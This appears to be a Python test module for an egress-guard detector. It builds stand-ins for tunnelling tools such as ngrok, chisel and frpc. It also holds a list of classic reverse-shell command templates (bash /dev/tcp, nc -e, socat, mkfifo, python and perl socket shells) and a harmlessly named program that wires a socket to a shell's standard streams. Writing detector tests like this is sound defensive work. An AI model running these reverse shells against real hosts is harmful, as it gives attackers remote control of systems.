# SPDX-License-Identifier: Apache-2.0
"""Stand-ins for tunnelling tools, reverse-shell command lines and an innocent dup2 program.

Standins() writes executables named like the real tools (ngrok, cloudflared,
chisel, frpc, bore, lt) into a temporary directory. Each is a small python3
script: run with the tool's usual argv, it connects to $EG_STANDIN_TARGET
(HOST:PORT, a test address; the hosts in its argv are never dialled), sends
that tool's real first bytes, reads for $EG_STANDIN_HOLD seconds (default 1)
and prints one JSON line like tests.kernel.netclient's, plus "tool" and
"payload_bytes". The exec shows `python3 DIR/chisel client ...`, which
guard.detect.classify.tunnels reads through to `chisel client ...`.

First bytes (what guard/detect/classify/tunnels.py recognises):
  ngrok        TLS ClientHello, SNI connect.ngrok-agent.com (agent control plane)
  cloudflared  TLS ClientHello, SNI h2.cftunnel.com (`--protocol http2`, the TCP
               transport); `--protocol quic`: one QUIC Initial datagram (UDP)
  chisel       HTTP/1.1 WebSocket upgrade with Sec-WebSocket-Protocol: chisel-v3
  frpc         0x17 then a TLS ClientHello (frp's own TLS first byte, the default
               since 0.50); a config with tls enable = false: yamux frames
               carrying the Login message ('o', int64 length, JSON)
  bore         {"Hello":PORT}\\0 (serde JSON, NUL-terminated)
  lt           TLS ClientHello, SNI localtunnel.me (`GET /?new` over https);
               `--host http://NAME`: the plain HTTP GET /?new with Host: NAME

REVERSE_SHELLS are argv templates ({host}, {port}, {fifo}) for the classic
forms; DUP2_INNOCENT is the source of `report-uploader`, which puts a socket on
fds 0-2 and runs `/bin/sh -c true` under an argv that says nothing.
"""
from __future__ import annotations

import ipaddress
import json
import os
import re
import shutil
import ssl
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Mapping, NamedTuple, Sequence

from .netclient import exchange, is_test_address, parse_host_port

ROOT = Path(__file__).resolve().parents[2]
TARGET_ENV = "EG_STANDIN_TARGET"
HOLD_ENV = "EG_STANDIN_HOLD"


# --------------------------------------------------------------------------
# First bytes


def client_hello(server_name: str | None) -> bytes:
    """A real TLS ClientHello from the ssl module (no SNI for an IP or None)."""
    context = ssl.create_default_context()
    if server_name is None:
        context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def quic_initial() -> bytes:
    """A QUIC v1 Initial packet's shape (long header, fixed bit), padded to 1200 bytes."""
    header = bytes([0xC3]) + (1).to_bytes(4, "big") + b"\x08" + os.urandom(8) + b"\x00" + b"\x00"
    body_len = 1200 - len(header) - 2
    return header + (0x4000 | body_len).to_bytes(2, "big") + os.urandom(body_len)


def _flag(args: Sequence[str], *names: str) -> str | None:
    """The value of --name VALUE / --name=VALUE / -n VALUE in args, or None."""
    for i, arg in enumerate(args):
        for name in names:
            if arg == name and i + 1 < len(args):
                return args[i + 1]
            if arg.startswith(name + "=") and name.startswith("--"):
                return arg.split("=", 1)[1]
    return None


def _operands(args: Sequence[str]) -> list[str]:
    return [arg for arg in args if not arg.startswith("-")]


def _chisel(args: Sequence[str]) -> bytes:
    operands = _operands(args)
    server = operands[1] if len(operands) > 1 else "localhost:80"
    server = re.sub(r"^[a-z]+://", "", server).rstrip("/")
    # the request Go's websocket dialer sends for `chisel client` (share/cnet, v1.x)
    return (f"GET / HTTP/1.1\r\nHost: {server}\r\nUser-Agent: Go-http-client/1.1\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            "Sec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\n"
            "Upgrade: websocket\r\n\r\n").encode()


def _bore(args: Sequence[str]) -> bytes:
    remote = _flag(args, "--port", "-p") or "0"
    return b'{"Hello":%d}\x00' % int(remote if remote.isdigit() else 0)


def _frp_login() -> bytes:
    login = {"version": "0.52.3", "hostname": "", "os": "linux", "arch": "amd64", "user": "",
             "privilege_key": "0123abcd", "timestamp": 1700000000, "run_id": "",
             "metas": None, "pool_count": 1}
    body = json.dumps(login, separators=(",", ":")).encode()
    message = b"o" + len(body).to_bytes(8, "big") + body
    # yamux: window update (SYN) opening stream 1, then a data frame with the login
    window = bytes([0, 1]) + (1).to_bytes(2, "big") + (1).to_bytes(4, "big") + \
        (256 * 1024).to_bytes(4, "big")
    data = bytes([0, 0]) + (0).to_bytes(2, "big") + (1).to_bytes(4, "big") + \
        len(message).to_bytes(4, "big")
    return window + data + message


def _frpc(args: Sequence[str]) -> bytes:
    config_path = _flag(args, "-c", "--config")
    text = ""
    if config_path:
        try:
            text = Path(config_path).read_text(errors="replace")
        except OSError:
            text = ""
    legacy = re.search(r"tls[._]?enable\s*=\s*false", text, re.I)           # frpc.ini
    toml = re.search(r"^\s*\[transport\.tls\][^\[]*^\s*enable\s*=\s*false", text,
                     re.I | re.M | re.S)
    if legacy or toml:
        return _frp_login()
    match = re.search(r"server_?addr\s*=\s*\"?([A-Za-z0-9.-]+)", text, re.I)
    server = match.group(1) if match else None
    if server is not None:
        try:
            ipaddress.ip_address(server)
            server = None                       # no SNI for an address
        except ValueError:
            pass
    return b"\x17" + client_hello(server)


def _localtunnel(args: Sequence[str]) -> bytes:
    host = _flag(args, "--host", "-h") or "https://localtunnel.me"
    if host.startswith("http://"):
        name = host[len("http://"):].rstrip("/")
        return (f"GET /?new HTTP/1.1\r\nAccept: application/json, text/plain, */*\r\n"
                f"User-Agent: axios/0.21.4\r\nHost: {name}\r\nConnection: close\r\n\r\n").encode()
    return client_hello(re.sub(r"^https://", "", host).rstrip("/"))


def _cloudflared(args: Sequence[str]) -> bytes:
    if _flag(args, "--protocol") == "quic":
        return quic_initial()
    return client_hello("h2.cftunnel.com")


@dataclass(frozen=True)
class Standin:
    """A tunnel tool's stand-in: its executable name, its usual arguments
    ({host} and {port}: where its server would be), what the classifier calls it."""
    name: str
    args: tuple[str, ...]
    dialect: str

    def transport(self, args: Sequence[str]) -> str:
        quic = self.name == "cloudflared" and _flag(args, "--protocol") == "quic"
        return "udp" if quic else "tcp"

    def first_bytes(self, args: Sequence[str]) -> bytes:
        return _FIRST_BYTES[self.name](args)

    def usual_args(self, host: str, port: int) -> list[str]:
        return [arg.replace("{host}", host).replace("{port}", str(port)) for arg in self.args]


_FIRST_BYTES = {"ngrok": lambda args: client_hello("connect.ngrok-agent.com"),
                "cloudflared": _cloudflared, "chisel": _chisel, "frpc": _frpc, "bore": _bore,
                "lt": _localtunnel}

STANDINS: dict[str, Standin] = {s.name: s for s in (
    Standin("ngrok", ("tcp", "22"), "ngrok"),
    Standin("cloudflared", ("tunnel", "run"), "cloudflared"),
    Standin("chisel", ("client", "{host}:{port}", "R:8080:localhost:80"), "chisel"),
    Standin("frpc", ("-c", "frpc.toml"), "frp"),
    Standin("bore", ("local", "8080", "--to", "{host}"), "bore"),
    Standin("lt", ("--port", "8080"), "localtunnel"),
)}


def standin_main(tool: str, args: Sequence[str]) -> int:
    """What every stand-in script runs: send the tool's first bytes to $EG_STANDIN_TARGET."""
    standin = STANDINS[tool]
    report: dict[str, Any] = {"tool": tool}
    try:
        host, port = parse_host_port(os.environ.get(TARGET_ENV, ""))
        hold = float(os.environ.get(HOLD_ENV, "1"))
    except ValueError as exc:
        print(f"{tool} (stand-in): {TARGET_ENV}=HOST:PORT of a test address is required: {exc}",
              file=sys.stderr)
        return 2
    payload = standin.first_bytes(args)
    report["payload_bytes"] = len(payload)
    report.update(exchange(host, port, payload, hold=hold,
                           udp=standin.transport(args) == "udp"))
    print(json.dumps(report), flush=True)
    return 0


# --------------------------------------------------------------------------
# Reverse shells and the innocent dup2 program


class ReverseShell(NamedTuple):
    """A reverse-shell command line. argv: a template with {host} (IPv4), {port}
    and, for the back-pipe, {fifo} (a path in a directory the test owns);
    needs: the programs it runs; pattern: guard.detect.classify.tunnels' name for it;
    udp: it talks UDP, not TCP."""
    name: str
    argv: tuple[str, ...]
    needs: tuple[str, ...]
    pattern: str
    udp: bool = False

    def format(self, host: str, port: int, fifo: str | os.PathLike | None = None) -> list[str]:
        if fifo is None and any("{fifo}" in arg for arg in self.argv):
            raise ValueError(f"{self.name}: needs a fifo path")
        return [arg.replace("{host}", host).replace("{port}", str(port))
                .replace("{fifo}", str(fifo)) for arg in self.argv]


REVERSE_SHELLS: list[ReverseShell] = [
    ReverseShell("bash /dev/tcp", ("bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"),
                 ("bash",), "dev_tcp_shell"),
    ReverseShell("bash /dev/udp", ("bash", "-c", "bash -i >& /dev/udp/{host}/{port} 0>&1"),
                 ("bash",), "dev_tcp_shell", udp=True),
    # Debian's `nc` is the OpenBSD one, which has no -e: the traditional one has
    ReverseShell("nc -e", ("nc.traditional", "-e", "/bin/sh", "{host}", "{port}"),
                 ("nc.traditional", "sh"), "netcat_exec"),
    ReverseShell("ncat --sh-exec", ("ncat", "--sh-exec", "/bin/sh -i 2>&1", "{host}", "{port}"),
                 ("ncat", "sh"), "netcat_exec"),
    ReverseShell("socat exec:", ("socat", "exec:/bin/sh -i,stderr", "tcp:{host}:{port}"),
                 ("socat", "sh"), "socat_exec"),
    ReverseShell("mkfifo back-pipe", ("sh", "-c", "rm -f {fifo}; mkfifo {fifo}; cat {fifo} | "
                                                  "/bin/sh -i 2>&1 | nc {host} {port} > {fifo}; "
                                                  "rm -f {fifo}"),
                 ("sh", "nc", "mkfifo"), "fifo_backpipe"),
    ReverseShell("python3 socket", ("python3", "-c",
                                    "import os,socket,subprocess;s=socket.create_connection(("
                                    "'{host}',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
                                    "subprocess.call(['/bin/sh','-i'])"),
                 ("python3", "sh"), "python_socket_exec"),
    ReverseShell("perl socket", ("perl", "-e",
                                 'use Socket;$i="{host}";$p={port};socket(S,PF_INET,SOCK_STREAM,'
                                 'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i'
                                 ')))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
                                 'exec("/bin/sh -i");};'),
                 ("perl", "sh"), "perl_socket_exec"),
]

DUP2_INNOCENT_NAME = "report-uploader"

#: report-uploader: connects to $EG_STANDIN_TARGET, dup2()s the socket onto
#: fds 0, 1 and 2, then execs `/bin/sh -c true` (or, given `--sleep SECONDS`,
#: sleeps holding the socket). Its argv names neither a shell nor a socket.
#: Exit 3 when it could not connect (said on stderr before the dup2).
DUP2_INNOCENT = '''\
import ipaddress, os, socket, sys, time

target = os.environ.get("EG_STANDIN_TARGET", "")
host, _, port = target.rpartition(":")
host = host.strip("[]")
try:
    ip = ipaddress.ip_address(host)
    ip = ip.ipv4_mapped or ip if ip.version == 6 else ip
    ok = any(ip in ipaddress.ip_network(n) for n in ("127.0.0.0/8", "::1/128", "198.18.0.0/15"))
except ValueError:
    ok = False
if not ok or not port.isdigit():
    print(f"report-uploader: EG_STANDIN_TARGET={target!r} is not a test address", file=sys.stderr)
    sys.exit(2)
try:
    s = socket.create_connection((host, int(port)), timeout=5)
except OSError as exc:
    print(f"report-uploader: {exc}", file=sys.stderr)
    sys.exit(3)
s.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
if "--sleep" in sys.argv:
    time.sleep(float(sys.argv[sys.argv.index("--sleep") + 1]))
    sys.exit(0)
os.execv("/bin/sh", ["sh", "-c", "true"])
'''


# --------------------------------------------------------------------------
# The directory of executables


def _interpreter() -> str:
    """A python3 for the shebang: the system one (what an agent's image has)."""
    return "/usr/bin/python3" if os.access("/usr/bin/python3", os.X_OK) else sys.executable


class Standins:
    """A directory of stand-in executables (STANDINS and report-uploader),
    removed on exit when this object made it."""

    def __init__(self, directory: str | os.PathLike | None = None):
        self._given = directory is not None
        self.dir = Path(directory) if directory is not None else None
        self.python = _interpreter()

    def __enter__(self) -> "Standins":
        if self.dir is None:
            self.dir = Path(tempfile.mkdtemp(prefix="egress-guard-standins-"))
        try:
            for name in STANDINS:
                self._write(name, f"# Stand-in for `{name}` made by tests/kernel/tunnelstandins.py:"
                                  f" it sends {name}'s\n# first bytes to ${TARGET_ENV} and nowhere"
                                  f" else.\nimport sys\nsys.path.insert(0, {str(ROOT)!r})\n"
                                  f"from tests.kernel.tunnelstandins import standin_main\n"
                                  f"sys.exit(standin_main({name!r}, sys.argv[1:]))\n")
            self._write(DUP2_INNOCENT_NAME, DUP2_INNOCENT)
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def _write(self, name: str, body: str) -> None:
        path = self.dir / name
        path.write_text(f"#!{self.python}\n{body}")
        path.chmod(0o755)

    def path(self, name: str) -> Path:
        return self.dir / name

    def argv(self, name: str, host: str = "127.0.0.1", port: int = 0,
             args: Sequence[str] | None = None) -> list[str]:
        """[the stand-in's path, *args]; args default to the tool's usual ones."""
        if args is None:
            args = STANDINS[name].usual_args(host, port)
        return [str(self.path(name)), *args]

    def exec_argv(self, name: str, host: str = "127.0.0.1", port: int = 0,
                  args: Sequence[str] | None = None) -> list[str]:
        """The argv the kernel shows for argv(): the shebang's interpreter first."""
        return [self.python, *self.argv(name, host, port, args)]

    def innocent_argv(self, sleep: float | None = None) -> list[str]:
        argv = [str(self.path(DUP2_INNOCENT_NAME)), "--upload", "daily-report.csv"]
        return argv + ["--sleep", str(sleep)] if sleep is not None else argv

    def frpc_config(self, tls: bool = True, server_addr: str = "frps.example.net") -> Path:
        """An frpc.toml in the directory (tls=False: frp's plain login)."""
        path = self.dir / "frpc.toml"
        path.write_text(f'serverAddr = "{server_addr}"\nserverPort = 7000\n\n'
                        f"[transport.tls]\nenable = {'true' if tls else 'false'}\n\n"
                        '[[proxies]]\nname = "ssh"\ntype = "tcp"\nlocalIP = "127.0.0.1"\n'
                        "localPort = 22\nremotePort = 6000\n")
        return path

    @staticmethod
    def env(host: str, port: int, hold: float = 1.0,
            base: Mapping[str, str] | None = None) -> dict[str, str]:
        """The environment a stand-in (or report-uploader) needs: its target and hold."""
        if not is_test_address(host):
            raise ValueError(f"{host} is not a test address")
        env = dict(os.environ if base is None else base)
        env[TARGET_ENV] = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
        env[HOLD_ENV] = str(hold)
        return env

    def close(self) -> None:
        if self.dir is not None and not self._given:
            shutil.rmtree(self.dir, ignore_errors=True)
            self.dir = None
